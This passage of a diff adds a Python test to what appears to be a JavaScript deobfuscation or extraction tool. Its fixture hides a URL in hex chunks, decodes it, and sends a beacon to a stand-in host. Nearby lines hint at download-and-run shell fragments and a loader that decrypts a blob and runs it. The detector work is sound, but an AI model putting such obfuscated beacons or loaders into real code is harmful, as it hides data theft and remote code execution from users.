@@ -115,6 +115,21 @@ def test_a_long_concatenation_folds_whole_and_numbers_add_until_a_string():
     assert " ".join(f"w{i}" for i in range(20)) + " -o ${*} && sh ${*}" in strings and "3x12" in strings
 
 
+def test_replace_folds_with_a_constant_or_a_one_expression_callback_and_parseint_reads_its_digits():
+    # (blind set 41's render-heatmap: a URL kept as hex chunks, each `.replace(/../g, c => String.fromCharCode(parseInt(c,
+    # 16)))`, mapped and joined; and the plain `'hXtXtXps'.replace(/X/g, '')`)
+    code = (b'var u = ["68747470", "733a2f2f", "612e6578616d706c65"];\n'
+            b'function s() { return u.map(function (e) { return e.replace(/../g, function (e) { '
+            b'return String.fromCharCode(parseInt(e, 16)); }); }).join(""); }\n'
+            b'navigator.sendBeacon(s(), "x");\nvar q = "hXtXtXps://b.example".replace(/X/g, "");\n'
+            b'var r = "a-b-c".replace("-", "+");\nvar n = "p" + (parseInt("7fz", 16) + parseInt("12", 8));\n'
+            b'var w = "aaaa".replace(/a*a*a*$/g, "b");\n')
+    strings = {f.value for f in extract("a.js", code).facts if f.kind == "string"}
+    assert {"https://a.example", "https://b.example", "a+b-c", "p137"} <= strings
+    # A regular expression beyond the simple kinds (groups, anchors, several `*`) is not run.
+    assert "b" not in strings
+
+
 def test_decrypting_a_constant_blob_and_running_it():
     blob = "a9" * 160
     loader = ("const crypto = require('crypto');\nconst payload = '" + blob + "';\n"
